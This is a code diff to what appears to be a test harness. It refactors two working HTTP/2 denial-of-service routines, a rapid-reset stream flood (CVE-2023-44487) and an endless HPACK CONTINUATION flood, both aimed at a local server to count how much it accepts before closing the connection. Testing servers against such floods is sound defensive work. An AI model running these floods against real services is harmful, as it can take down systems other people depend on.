@@ -46,30 +46,58 @@ def headers_block(port, path, extra=()):
         ("te", "trailers")] + list(extra))
 
 
+class _Connection:
+    """A client connection whose incoming frames a thread reads and drops; closing it shuts
+    the socket down (which wakes that thread) and waits for the thread."""
+
+    def __init__(self, port, timeout):
+        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
+        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
+        self.reader = threading.Thread(target=self._drain, daemon=True)
+        self.reader.start()
+
+    def _drain(self):
+        try:
+            while self.sock.recv(65536):
+                pass
+        except OSError:
+            pass
+
+    def send(self, data):
+        """True when the peer took it; False when it closed or reset the connection."""
+        try:
+            self.sock.sendall(data)
+            return True
+        except (ConnectionError, BrokenPipeError):
+            return False
+
+    def close(self):
+        try:
+            self.sock.shutdown(socket.SHUT_RDWR)
+        except OSError:
+            pass
+        self.sock.close()
+        self.reader.join(5)
+
+
 def rapid_reset(port, path, streams, extra=()):
     """HTTP/2 rapid reset (CVE-2023-44487): on one connection, HEADERS of a call to path and
     at once RST_STREAM, for `streams` streams, as fast as the socket takes them; what comes
-    back is read and dropped. Returns when everything is sent (or the peer closed)."""
+    back is read and dropped. Returns how many streams were sent before the peer closed the
+    connection (all of them if it did not); a send that stalls for 60 s raises."""
     block = headers_block(port, path, extra)
-    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
-        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
-
-        def drain():
-            try:
-                while sock.recv(65536):
-                    pass
-            except OSError:
-                pass
-        reader = threading.Thread(target=drain, daemon=True)
-        reader.start()
-        reset = struct.pack(">I", CANCEL)
-        try:
-            for first in range(0, streams, 200):
-                sock.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
+    reset = struct.pack(">I", CANCEL)
+    conn = _Connection(port, 60)
+    try:
+        for first in range(0, streams, 200):
+            last = min(first + 200, streams)
+            if not conn.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
                                       frame(RST_STREAM, 0, 2 * i + 1, reset)
-                                      for i in range(first, min(first + 200, streams))))
-        except OSError:
-            pass  # the peer closed the connection: that is one way to refuse it
+                                      for i in range(first, last))):
+                return first
+        return streams
+    finally:
+        conn.close()
 
 
 CONTINUATION = 9
@@ -91,15 +119,18 @@ def hpack_int(value, prefix_bits):
 def endless_header(port, path, megabytes):
     """HPACK's CONTINUATION flood (the CVE-2023-33953 class): the HEADERS of a call to path
     whose last field announces a value of `megabytes` MiB, then CONTINUATION frames of 16 KiB
-    carrying it, never END_HEADERS. Returns when all is sent or the peer closed."""
+    carrying it, never END_HEADERS. Returns the MiB sent before the peer closed the
+    connection (all of them if it did not); a send that stalls for 60 s raises."""
     size = megabytes << 20
     block = headers_block(port, path) + b"\x00" + hpack_int(5, 7) + b"x-big" + hpack_int(size, 7)
-    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
-        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) +
-                     frame(HEADERS, 0, 1, block))
-        piece = frame(CONTINUATION, 0, 1, b"a" * 16384)
-        try:
-            for _ in range(size // 16384):
-                sock.sendall(piece)
-        except OSError:
-            pass  # the peer closed the connection: that is one way to refuse it
+    piece = frame(CONTINUATION, 0, 1, b"a" * 16384)
+    conn = _Connection(port, 60)
+    try:
+        if not conn.send(frame(HEADERS, 0, 1, block)):
+            return 0
+        for k in range(size // 16384):
+            if not conn.send(piece):
+                return (k * 16384) >> 20
+        return megabytes
+    finally:
+        conn.close()
